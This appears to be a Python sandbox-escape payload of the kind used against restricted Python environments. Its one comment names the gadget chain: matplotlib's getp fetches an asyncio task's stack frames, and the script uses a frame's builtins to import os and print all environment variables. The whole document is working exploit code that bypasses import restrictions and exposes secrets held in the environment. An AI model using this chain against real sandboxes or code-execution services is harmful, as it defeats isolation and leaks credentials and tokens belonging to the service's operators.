# reaches: pyplot's getp calls a task's get_stack, whose frame has the builtins
import asyncio
import matplotlib.pyplot as plt
async def main():
    frame = plt.getp(asyncio.current_task(), 'stack')[-1]
    print(frame.f_builtins['__import__']('os').environ)
asyncio.run(main())
